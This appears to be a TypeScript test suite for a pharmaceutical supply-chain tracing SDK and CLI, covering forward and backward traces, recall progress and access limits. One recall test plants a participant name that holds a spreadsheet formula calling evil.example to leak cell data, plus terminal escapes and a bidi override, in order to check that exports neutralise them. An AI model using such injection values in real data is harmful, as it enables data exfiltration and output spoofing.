// Tracing (issue 9) end to end through the SDK and the CLI against the real API: a batch spread over its
// manufacturer, a wholesaler (some packs in a case on a pallet), a pharmacy (one pack supplied to a
// patient) and an open shipment; traced forward by the regulator (page by page), backward from a pack, and
// followed through a recall. One server for the suite; the data is built once, through the SDK.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { packAssetId } from '@pharmatrace/custody/custody-events';
import {
  acknowledgeRecall, commissionPacks, dispense, ForwardTracePage, generateKeyFile, initiateRecall, issuePrescription, keySpecOf, pack, patientPseudonym, PharmaTraceClient,
  receive, recallDeliveries, recallProgress, recordReadings, registerBatch, registerIngredientLot, registerParticipant, registerProduct, reportDisposal, ship, temperatureHistory,
  traceBackward, traceForwardPages, TracedPack, writeKeyFile,
} from '@pharmatrace/sdk';
import { FORWARD_CSV_COLUMNS } from '@pharmatrace/tracing/trace-csv';
import { startTestServer, TestServer, waitFor } from './support/test-server';
import { createTestNetwork, LICENCE, refusal, TestNetwork, uniqueGln } from './support/test-network';
import { newGtin, newSscc, productSpec } from './support/custody-fixture';
import { runCli } from './support/run-cli';

const day = (offset: number): string => new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);
const CERT = { sha256: 'c'.repeat(64), issuer: 'Andes Chamber of Commerce', countryOfOrigin: 'CL', issuedOn: '2026-01-05' };

describe('tracing', () => {
  let server: TestServer;
  let net: TestNetwork;
  let supplier: PharmaTraceClient;
  let maker: PharmaTraceClient;
  let wholesaler: PharmaTraceClient;
  let pharmacy: PharmaTraceClient;
  let dr: PharmaTraceClient;
  let gtin: string;
  let lotA: string;
  let lotB: string;
  let batchA: string;
  let batchB: string;
  let batchC: string;
  /** Twelve packs of batch A; see `before` for where each one is. */
  let p: string[];
  let caseId: string;
  let palletId: string;
  let toWholesaler: string;
  let openShipment: string;
  let prescriptionId: string;
  let dir: string;
  const patient = patientPseudonym(randomBytes(32), 'TR-123456-A');
  const keyPath = (c: PharmaTraceClient) => join(dir, `${c.participantId}.json`);
  const cli = (args: string[]) => runCli([...args, '--server', server.url], server.environment.env);

  const allPages = async (client: PharmaTraceClient, target: { batch: string } | { ingredientLot: string }, pageSize = 500): Promise<ForwardTracePage[]> => {
    const pages: ForwardTracePage[] = [];
    for await (const page of traceForwardPages(client, target, { pageSize })) pages.push(page);
    return pages;
  };

  before(async () => {
    server = await startTestServer();
    dir = server.environment.env.PHARMATRACE_DATA_DIR;
    net = await createTestNetwork(server);
    [supplier, maker, wholesaler, pharmacy, dr] = await Promise.all([
      net.join('supplier', 'tr-supplier'), net.join('manufacturer', 'tr-maker'), net.join('wholesaler', 'tr-wholesaler'),
      net.join('pharmacy', 'tr-pharmacy'), net.join('prescriber', 'tr-dr'),
    ]);
    for (const c of [net.regulator, maker, wholesaler]) writeKeyFile(keyPath(c), c.key);

    // Two ingredient lots: A feeds batches A and B, B feeds batch C only.
    lotA = (await registerIngredientLot(supplier, { number: 'API-A', material: 'insulin glargine (API)', quantity: 10, unit: 'kg', certificate: CERT })).id;
    lotB = (await registerIngredientLot(supplier, { number: 'API-B', material: 'metacresol', quantity: 2, unit: 'kg', certificate: { ...CERT, sha256: 'd'.repeat(64) } })).id;
    await receive(maker, (await ship(supplier, maker.participantId, [lotA, lotB])).shipment);
    gtin = newGtin();
    await registerProduct(maker, productSpec(gtin));
    const dates = { manufacturedOn: '2026-01-10', expiresOn: '2028-01-31', quantity: 100 };
    batchA = (await registerBatch(maker, { gtin, lot: 'TR-A', ...dates }, [lotA])).id;
    batchB = (await registerBatch(maker, { gtin, lot: 'TR-B', ...dates }, [lotA])).id;
    batchC = (await registerBatch(maker, { gtin, lot: 'TR-C', ...dates }, [lotB])).id;
    p = (await commissionPacks(maker, batchA, 12)).serials.map((s) => packAssetId(gtin, s));
    await commissionPacks(maker, batchB, 3);
    await commissionPacks(maker, batchC, 2);

    // p0–p3 in a case on a pallet, with a temperature log of the case while the manufacturer holds it.
    [caseId, palletId] = [newSscc(), newSscc()];
    await pack(maker, { id: caseId, kind: 'case' }, p.slice(0, 4), { newContainer: true });
    await pack(maker, { id: palletId, kind: 'pallet' }, [caseId], { newContainer: true });
    await new Promise((r) => setTimeout(r, 2200));
    const end = Math.floor(Date.now() / 1000) * 1000;
    await recordReadings(maker, caseId, [{ at: new Date(end - 1000), celsius: 5 }, { at: new Date(end), celsius: 5.5 }]);
    await waitFor('the case’s evaluation', async () => {
      const h = await temperatureHistory(maker, caseId, { first: 0 });
      return !h.evaluationPending && h.evaluations.length > 0;
    });
    // The pallet and p4, p5 go to the wholesaler; p4, p5 on to the pharmacy, which supplies p4 to a patient.
    toWholesaler = (await ship(maker, wholesaler.participantId, [palletId, p[4], p[5]])).shipment;
    await receive(wholesaler, toWholesaler);
    await receive(pharmacy, (await ship(wholesaler, pharmacy.participantId, [p[4], p[5]])).shipment);
    prescriptionId = (await issuePrescription(dr, { patient, product: { gtin }, quantity: 1, refills: 0, validFrom: day(0), validUntil: day(30), controlledClass: 'none' })).id;
    await dispense(pharmacy, { prescription: prescriptionId, patient, scans: [`01${gtin}21${p[4].split('.').pop()}`] });
    // p6, p7 on their way to the wholesaler; p8–p11 stay with the manufacturer.
    openShipment = (await ship(maker, wholesaler.participantId, [p[6], p[7]])).shipment;
  });
  after(async () => server?.close());

  it('forward trace: every pack with its custodian, containers, open shipment and supply (pseudonym only), paged by pack id', async () => {
    const pages = await allPages(net.regulator, { batch: batchA }, 5);
    assert.equal(pages.length, 3);
    assert.ok(pages[0].summary && pages.slice(1).every((pg) => pg.summary === null), 'the summary on the first page only');
    assert.deepEqual(pages.map((pg) => pg.hasNextPage), [true, true, false]);
    const packs = pages.flatMap((pg) => pg.packs);
    assert.deepEqual(packs.map((x) => x.id), [...p].sort(), 'every pack once, in id order');
    const byId = new Map<string, TracedPack>(packs.map((x) => [x.id, x]));

    const inCase = byId.get(p[0])!;
    assert.deepEqual([inCase.custodianId, inCase.containerId, inCase.outermostContainerId, inCase.shipmentId], [wholesaler.participantId, caseId, palletId, null]);
    assert.equal(inCase.custodianName, `${wholesaler.participantId} Ltd`);
    assert.match(inCase.custodianGln, /^\d{13}$/);
    const travelling = byId.get(p[6])!;
    assert.deepEqual([travelling.custodianId, travelling.shipmentId, travelling.shipmentFromId, travelling.shipmentToId], [maker.participantId, openShipment, maker.participantId, wholesaler.participantId]);
    assert.ok(travelling.shippedAt && Date.parse(travelling.shippedAt) <= Date.now());
    assert.deepEqual([byId.get(p[4])!.state, byId.get(p[4])!.custodianId], ['supplied', pharmacy.participantId]);
    assert.deepEqual([byId.get(p[5])!.state, byId.get(p[5])!.custodianId, byId.get(p[5])!.containerId], ['active', pharmacy.participantId, null]);
    assert.equal(byId.get(p[9])!.custodianId, maker.participantId);

    const dispenses = pages.flatMap((pg) => pg.dispenses);
    assert.equal(dispenses.length, 1);
    assert.deepEqual(Object.keys(dispenses[0]).sort(), ['dispensedAt', 'packId', 'patientPseudonym', 'pharmacyGln', 'pharmacyId', 'pharmacyName', 'prescriptionId']);
    assert.deepEqual([dispenses[0].packId, dispenses[0].pharmacyId, dispenses[0].prescriptionId, dispenses[0].patientPseudonym], [p[4], pharmacy.participantId, prescriptionId, patient]);
    const shipments = pages.flatMap((pg) => pg.shipmentsInTransit);
    assert.ok(shipments.length >= 1 && shipments.every((s) => s.id === openShipment));
    assert.deepEqual([shipments[0].items, shipments[0].affectedPacks, shipments[0].toId], [2, 2, wholesaler.participantId]);

    const summary = pages[0].summary!;
    assert.equal(summary.totalPacks, 12);
    assert.deepEqual(summary.batches, [batchA]);
    assert.deepEqual(Object.fromEntries(summary.byState.map((s) => [s.state, s.packs])), { active: 9, in_transit: 2, supplied: 1 }, 'loose packs shipped are in transit themselves');
    assert.deepEqual(
      Object.fromEntries(summary.byCustodian.map((c) => [c.participantId, c.packs])),
      { [maker.participantId]: 6, [wholesaler.participantId]: 4, [pharmacy.participantId]: 2 },
    );
  });

  it('forward trace of an ingredient lot covers exactly the batches that consumed it', async () => {
    // A full page of 1,000 with every field stays within the query cost budget.
    const [first] = await allPages(net.regulator, { ingredientLot: lotA }, 1000);
    assert.deepEqual(first.summary?.batches, [batchA, batchB].sort());
    assert.equal(first.summary?.totalPacks, 15);
    assert.ok(first.packs.every((x) => x.batchId !== batchC));
    const [other] = await allPages(net.regulator, { ingredientLot: lotB });
    assert.deepEqual([other.summary?.batches, other.summary?.totalPacks], [[batchC], 2]);
  });

  it('forward trace is for regulators: a wholesaler and a manufacturer are refused FORBIDDEN_ROLE with who may', async () => {
    for (const c of [wholesaler, maker]) {
      const r = await refusal(() => allPages(c, { batch: batchA }));
      assert.equal(r.code, 'FORBIDDEN_ROLE');
      assert.match(r.message, /regulators/);
    }
    assert.equal((await refusal(() => allPages(net.regulator, { batch: `batch:${gtin}/NOPE` }))).code, 'UNKNOWN_BATCH');
  });

  it('backward trace: batch, ingredient lots with supplier and certificate, custodians in order with dates, temperature verdicts', async () => {
    const t = await traceBackward(net.regulator, p[0]);
    assert.deepEqual([t.batch.id, t.batch.lot, t.batch.expiresOn, t.batch.manufacturerId], [batchA, 'TR-A', '2028-01-31', maker.participantId]);
    assert.equal(t.ingredientLots.length, 1);
    const [lot] = t.ingredientLots;
    assert.deepEqual([lot.id, lot.supplierId, lot.supplierName, lot.certificate], [lotA, supplier.participantId, `${supplier.participantId} Ltd`, CERT]);
    assert.match(lot.supplierGln, /^\d{13}$/);
    assert.deepEqual(t.custodians.map((c) => [c.participantId, c.arrivedBy]), [[maker.participantId, null], [wholesaler.participantId, toWholesaler]]);
    assert.ok(Date.parse(t.custodians[0].since) <= Date.parse(t.custodians[0].until!) && Date.parse(t.custodians[0].until!) <= Date.parse(t.custodians[1].since));
    assert.deepEqual(t.shipments.map((s) => [s.id, s.via, s.state]), [[toWholesaler, palletId, 'received']]);
    assert.deepEqual(t.temperatureVerdicts.map((v) => [v.subject, v.verdict]), [[caseId, 'within_policy']]);
    assert.equal(t.state, 'active');
    assert.equal(t.truncated, false);

    // The pharmacy traces the pack it supplied from its scan: three custodians, up to itself.
    const mine = await traceBackward(pharmacy, `01${gtin}21${p[4].split('.').pop()}`);
    assert.deepEqual(mine.custodians.map((c) => c.participantId), [maker.participantId, wholesaler.participantId, pharmacy.participantId]);
    assert.equal(mine.state, 'supplied');
  });

  it('backward trace of a pack the caller never held answers UNKNOWN_ITEM, like a missing one', async () => {
    const never = await refusal(() => traceBackward(pharmacy, p[0]));
    const missing = await refusal(() => traceBackward(pharmacy, packAssetId(gtin, 'NO-SUCH-SERIAL')));
    assert.deepEqual([never.code, missing.code], ['UNKNOWN_ITEM', 'UNKNOWN_ITEM']);
    // A former holder sees where the pack came from, not its present.
    const handedOn = await traceBackward(wholesaler, p[5]);
    assert.equal(handedOn.state, null);
    assert.deepEqual(handedOn.temperatureVerdicts, []);
  });

  it('CLI: forward trace as CSV and as JSON Lines, streamed over several pages with a progress bar', async () => {
    const csv = await cli(['trace', 'forward', '--key', keyPath(net.regulator), '--batch', batchA, '--format', 'csv', '--page-size', '5', '--progress']);
    assert.equal(csv.code, 0, csv.stderr);
    const rows = parseCsv(csv.stdout) as string[][];
    assert.deepEqual(rows[0], [...FORWARD_CSV_COLUMNS], 'one header');
    assert.deepEqual(rows.slice(1).map((r) => r[0]), [...p].sort());
    const supplied = rows.find((r) => r[0] === p[4])!;
    assert.deepEqual([supplied[4], supplied[14], supplied[19]], ['supplied', pharmacy.participantId, patient]);
    assert.match(csv.stderr, /12\/12 packs/, 'the progress bar reaches the summary’s total');

    const out = join(dir, 'trace.jsonl');
    const json = await cli(['trace', 'forward', '--key', keyPath(net.regulator), '--batch', batchA, '--page-size', '4', '--out', out]);
    assert.equal(json.code, 0, json.stderr);
    assert.equal(json.stdout, '');
    const lines = readFileSync(out, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as { type: string; id?: string; dispense?: unknown });
    assert.equal(lines[0].type, 'summary');
    assert.equal(lines.filter((l) => l.type === 'pack').length, 12);
    assert.deepEqual(lines.filter((l) => l.type === 'shipment').map((l) => l.id), [openShipment], 'each open shipment once');

    const notWritten = join(dir, 'refused.csv');
    const refused = await cli(['trace', 'forward', '--key', keyPath(wholesaler), '--batch', batchA, '--out', notWritten]);
    assert.equal(refused.code, 1);
    assert.match(refused.stderr, /^FORBIDDEN_ROLE: /);
    assert.equal(existsSync(notWritten), false, 'a refused trace leaves no empty report');
    const unwritable = await cli(['trace', 'forward', '--key', keyPath(net.regulator), '--batch', batchA, '--out', join(dir, 'no-such-dir', 'x.csv')]);
    assert.equal(unwritable.code, 1);
    assert.match(unwritable.stderr, /cannot write --out/);
    const usage = await cli(['trace', 'forward', '--key', keyPath(net.regulator), '--batch', batchA, '--ingredient-lot', lotA]);
    assert.equal(usage.code, 2);
    const help = await runCli(['trace', 'forward', '--help'], server.environment.env);
    assert.equal(help.code, 0);
    assert.match(help.stdout, /JSON Lines/);
  });

  it('CLI: backward trace as JSON and CSV', async () => {
    const json = await cli(['trace', 'backward', '--key', keyPath(net.regulator), '--pack', p[0]]);
    assert.equal(json.code, 0, json.stderr);
    assert.equal((JSON.parse(json.stdout) as { batch: { id: string } }).batch.id, batchA);
    const csv = await cli(['trace', 'backward', '--key', keyPath(net.regulator), '--scan', `01${gtin}21${p[0].split('.').pop()}`, '--format', 'csv']);
    assert.equal(csv.code, 0, csv.stderr);
    const rows = parseCsv(csv.stdout, { columns: true }) as Array<Record<string, string>>;
    assert.deepEqual(rows.map((r) => r.section), ['batch', 'ingredient_lot', 'custodian', 'custodian', 'shipment', 'temperature']);
  });

  it('recall progress: the regulator sees every custodian and holder; the manufacturer its direct customers, the rest as "elsewhere"', async () => {
    const { recall } = await initiateRecall(net.regulator, { class: 'I', reason: 'out-of-specification assay', instructions: 'quarantine and return', notifyPatients: true, batches: [batchA] });
    // The wholesaler sends the pallet back; the manufacturer destroys one pack it holds.
    await ship(wholesaler, maker.participantId, [palletId]);
    await reportDisposal(maker, 'destroyed', [p[8]], 'recalled stock');

    const all = await recallProgress(net.regulator, recall);
    const { total, ...buckets } = all.totals;
    // p9–p11 never left the manufacturer: never shipped, not returned.
    assert.deepEqual(buckets, { inChain: 1, inTransitToManufacturer: 4, inTransitElsewhere: 2, returned: 0, neverShipped: 3, destroyed: 1, dispensedBeforeRecall: 1, other: 0 });
    assert.deepEqual([all.byCustodianOmitted, all.holdersOmitted], [0, 0]);
    assert.equal(total, 12);
    assert.deepEqual(new Set(all.byCustodian.map((c) => c.participantId)), new Set([maker.participantId, wholesaler.participantId, pharmacy.participantId]));
    assert.equal(all.elsewhereHolders, null);

    const own = await recallProgress(maker, recall);
    assert.deepEqual(own.totals, all.totals, 'the same counts');
    assert.deepEqual(own.byCustodian.map((c) => c.participantId), [maker.participantId, wholesaler.participantId, null].filter((x) => own.byCustodian.some((c) => c.participantId === x)));
    const elsewhere = own.byCustodian.find((c) => c.participantId === null)!;
    assert.deepEqual([elsewhere.name, elsewhere.total, elsewhere.inChain, elsewhere.dispensedBeforeRecall], ['elsewhere', 2, 1, 1]);
    assert.ok(own.holders.every((h) => h.participantId !== pharmacy.participantId), 'the pharmacy is not named to the manufacturer');

    // Holders as the notifications worker recorded them, and an acknowledgement.
    await waitFor('the holders’ notifications', async () => {
      const seen = new Set((await recallProgress(net.regulator, recall)).holders.map((h) => h.participantId));
      return seen.has(wholesaler.participantId) && seen.has(pharmacy.participantId);
    });
    await acknowledgeRecall(wholesaler, recall, 1);
    const holders = (await recallProgress(net.regulator, recall)).holders;
    const w = holders.find((h) => h.participantId === wholesaler.participantId)!;
    assert.ok(w.notifiedAt && w.acknowledgedAt && Date.parse(w.acknowledgedAt) >= Date.parse(w.notifiedAt));
    assert.equal(holders.find((h) => h.participantId === pharmacy.participantId)!.acknowledgedAt, null);
    const ownHolders = await recallProgress(maker, recall);
    assert.ok(ownHolders.holders.some((h) => h.participantId === wholesaler.participantId));
    assert.ok(ownHolders.holders.every((h) => h.participantId !== pharmacy.participantId));
    assert.ok((ownHolders.elsewhereHolders?.holders ?? 0) >= 1, 'the pharmacy counted, not named');

    assert.equal((await refusal(() => recallProgress(wholesaler, recall))).code, 'UNKNOWN_RECALL');
    const csv = await cli(['recall', 'progress', '--key', keyPath(net.regulator), '--recall', recall, '--format', 'csv']);
    assert.equal(csv.code, 0, csv.stderr);
    const rows = parseCsv(csv.stdout, { columns: true }) as Array<Record<string, string>>;
    assert.deepEqual(rows.at(-1), {
      participant_id: 'TOTAL', name: recall, gln: '', inChain: '1', inTransitToManufacturer: '4', inTransitElsewhere: '2', returned: '0', neverShipped: '3', destroyed: '1',
      dispensedBeforeRecall: '1', other: '0', total: '12',
    });
    const json = await cli(['recall', 'progress', '--key', keyPath(maker), '--recall', recall]);
    assert.equal(json.code, 0, json.stderr);
    assert.equal((JSON.parse(json.stdout) as { totals: { total: number } }).totals.total, 12);
  });

  it('recall progress: a direct customer’s line counts only packs the manufacturer shipped to it itself and it still holds; returned is what came back, neverShipped what never left', async () => {
    // A wholesaler whose registered name is a spreadsheet formula with terminal escapes and a bidi override.
    const evilName = '=HYPERLINK("http://evil.example/?leak="&A1,"open")\u001b[2J\u009b31m\u202eLtd';
    const evilKey = generateKeyFile('evil operator', 'operator', 'tr-evil');
    await registerParticipant(net.regulator, { id: 'tr-evil', legalName: evilName, role: 'wholesaler', gln: uniqueGln(), licence: LICENCE, keys: [keySpecOf(evilKey)] });
    const evil = new PharmaTraceClient(server.url, evilKey);
    const batchD = (await registerBatch(maker, { gtin, lot: 'TR-D', manufacturedOn: '2026-01-10', expiresOn: '2028-01-31', quantity: 100 }, [lotA])).id;
    const d = (await commissionPacks(maker, batchD, 12)).serials.map((s) => packAssetId(gtin, s));
    const [k2, k3] = [newSscc(), newSscc()];
    await pack(maker, { id: k2, kind: 'case' }, [d[2], d[3]], { newContainer: true });
    await pack(maker, { id: k3, kind: 'case' }, [d[7]], { newContainer: true });
    // Straight to the pharmacy: d0, d5, d10 and the case of d2, d3. To the wholesaler: d1, d4, d6 and the case of d7.
    await receive(pharmacy, (await ship(maker, pharmacy.participantId, [d[0], d[5], d[10], k2])).shipment);
    await receive(wholesaler, (await ship(maker, wholesaler.participantId, [d[1], d[4], d[6], k3])).shipment);
    await receive(evil, (await ship(maker, evil.participantId, [d[11]])).shipment);
    // The wholesaler sells d1 to the pharmacy, the pharmacy sells d5 to the wholesaler, and the pharmacy destroys d10.
    await receive(pharmacy, (await ship(wholesaler, pharmacy.participantId, [d[1]])).shipment);
    await receive(wholesaler, (await ship(pharmacy, wholesaler.participantId, [d[5]])).shipment);
    await reportDisposal(pharmacy, 'destroyed', [d[10]], 'damaged');
    // d6 and the case come back; the manufacturer then packs d8, never shipped, into that case. d9 stays.
    await receive(maker, (await ship(wholesaler, maker.participantId, [d[6], k3])).shipment);
    await pack(maker, { id: k3, kind: 'case' }, [d[8]], { newContainer: false });
    const { recall } = await initiateRecall(net.regulator, { class: 'II', reason: 'label mix-up', instructions: 'return', notifyPatients: false, batches: [batchD] });

    const all = await recallProgress(net.regulator, recall);
    const { total, ...buckets } = all.totals;
    assert.deepEqual(buckets, { inChain: 7, inTransitToManufacturer: 0, inTransitElsewhere: 0, returned: 2, neverShipped: 2, destroyed: 1, dispensedBeforeRecall: 0, other: 0 });
    assert.equal(total, 12);
    const line = (p: typeof all, id: string | null) => p.byCustodian.find((c) => c.participantId === id);
    assert.deepEqual([line(all, pharmacy.participantId)?.inChain, line(all, pharmacy.participantId)?.destroyed, line(all, wholesaler.participantId)?.inChain], [4, 1, 2], 'the regulator sees every custodian’s packs');

    const own = await recallProgress(maker, recall);
    assert.deepEqual(own.totals, all.totals, 'the same totals');
    assert.deepEqual(
      own.byCustodian.map((c) => [c.participantId, c.inChain, c.returned, c.neverShipped, c.destroyed, c.total]),
      [
        [maker.participantId, 0, 2, 2, 0, 4],
        [pharmacy.participantId, 3, 0, 0, 0, 3], // d0, and d2, d3 in the case it shipped: not d1 (from the wholesaler), not d10 (destroyed)
        [evil.participantId, 1, 0, 0, 0, 1],
        [wholesaler.participantId, 1, 0, 0, 0, 1], // d4: not d5, which the pharmacy sold it
        [null, 2, 0, 0, 1, 3],
      ],
      'most packs first, then by id (tr-evil before tr-wholesaler); "elsewhere" last',
    );

    // The same report through the CLI: the formula is shown as text, the escapes and the override are gone.
    const csv = await cli(['recall', 'progress', '--key', keyPath(maker), '--recall', recall, '--format', 'csv']);
    assert.equal(csv.code, 0, csv.stderr);
    assert.ok(!/[\u0000-\u0009\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/.test(csv.stdout), 'no control or bidi character reaches the terminal');
    const rows = parseCsv(csv.stdout, { columns: true }) as Array<Record<string, string>>;
    const evilRow = rows.find((r) => r.participant_id === evil.participantId)!;
    assert.equal(evilRow.name, `'${evilName.replace(/[\u001b\u009b\u202e]/g, '\uFFFD')}`);
    assert.deepEqual([rows.at(-1)!.returned, rows.at(-1)!.neverShipped], ['2', '2']);
    const json = await cli(['recall', 'progress', '--key', keyPath(maker), '--recall', recall]);
    assert.equal(json.code, 0, json.stderr);
    assert.ok(!/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/.test(json.stdout.trimEnd()), 'JSON escapes them');
    const parsed = JSON.parse(json.stdout) as { byCustodian: Array<{ participantId: string | null; name: string }> };
    assert.equal(parsed.byCustodian.find((c) => c.participantId === evil.participantId)?.name, evilName, 'and keeps the name exact');
    const forward = await cli(['trace', 'forward', '--key', keyPath(net.regulator), '--batch', batchD, '--format', 'csv']);
    assert.equal(forward.code, 0, forward.stderr);
    const evilPack = (parseCsv(forward.stdout, { columns: true }) as Array<Record<string, string>>).find((r) => r.pack === d[11])!;
    assert.equal(evilPack.custodian_name[0], "'");
  });

  it('recall progress and deliveries: a manufacturer never learns that a direct customer dispensed, nor how many packs it holds from others', async () => {
    const batchE = (await registerBatch(maker, { gtin, lot: 'TR-F', manufacturedOn: '2026-01-10', expiresOn: '2028-01-31', quantity: 100 }, [lotA])).id;
    const e = (await commissionPacks(maker, batchE, 5)).serials.map((s) => packAssetId(gtin, s));
    // Two straight to the pharmacy; three through the wholesaler to the pharmacy, which dispenses one of those.
    await receive(pharmacy, (await ship(maker, pharmacy.participantId, [e[0], e[1]])).shipment);
    await receive(wholesaler, (await ship(maker, wholesaler.participantId, [e[2], e[3], e[4]])).shipment);
    await receive(pharmacy, (await ship(wholesaler, pharmacy.participantId, [e[2], e[3], e[4]])).shipment);
    const patientE = patientPseudonym(randomBytes(32), 'TR-E-PATIENT');
    const rx = await issuePrescription(dr, { patient: patientE, product: { gtin }, quantity: 1, refills: 0, validFrom: day(0), validUntil: day(30), controlledClass: 'none' });
    await dispense(pharmacy, { prescription: rx.id, patient: patientE, scans: [`01${gtin}21${e[2].split('.').pop()}`] });
    const { recall } = await initiateRecall(maker, { class: 'III', reason: 'carton misprint', instructions: 'return', notifyPatients: false, batches: [batchE] });
    const told = await waitFor('the pharmacy to be told', async () => {
      const rows = await recallDeliveries(net.regulator, recall);
      return rows.some((r) => r.participantId === pharmacy.participantId) ? rows : null;
    }, 30_000);
    const regulatorRow = told.find((r) => r.participantId === pharmacy.participantId)!;
    assert.ok(regulatorRow.reasons.includes('supplier') && regulatorRow.affectedPacks === 5, 'the regulator sees it all');

    const mine = (await recallDeliveries(maker, recall)).find((r) => r.participantId === pharmacy.participantId);
    assert.ok(mine, 'its direct customer, by name');
    assert.deepEqual([mine.reasons, mine.affectedPacks], [['custodian'], null], 'not that it dispensed, nor how many packs it holds');
    const progress = await recallProgress(maker, recall);
    assert.deepEqual(progress.holders.find((h) => h.participantId === pharmacy.participantId)?.reasons, ['custodian']);
    assert.equal(progress.byCustodian.find((c) => c.participantId === pharmacy.participantId)?.total, 2, 'the two it shipped there itself');
    // Everyone told but the maker (the pharmacy included): no count pins the three other packs on the pharmacy.
    assert.deepEqual(progress.elsewhereHolders, { holders: 1, acknowledged: 0 });
    assert.ok(!JSON.stringify(progress).includes('supplier'));
  });

  it('backward trace: a pack shipped back and forth more than 50 times lists its first 50 shipments and says it was truncated', async () => {
    const batchE = (await registerBatch(maker, { gtin, lot: 'TR-E', manufacturedOn: '2026-01-10', expiresOn: '2028-01-31', quantity: 10 }, [lotA])).id;
    const [e] = (await commissionPacks(maker, batchE, 1)).serials.map((s) => packAssetId(gtin, s));
    const shipments: string[] = [];
    for (let i = 0; i < 26; i++) {
      for (const [from, to] of [[maker, wholesaler], [wholesaler, maker]]) {
        const s = (await ship(from, to.participantId, [e])).shipment;
        await receive(to, s);
        shipments.push(s);
      }
    }
    const t = await traceBackward(net.regulator, e);
    assert.equal(t.truncated, true);
    assert.deepEqual(t.shipments.map((s) => s.id), shipments.slice(0, 50), 'the first 50, in order');
    assert.equal(t.custodians.length, 51);
    assert.equal(t.state, 'active', 'its present state all the same');
  });
});
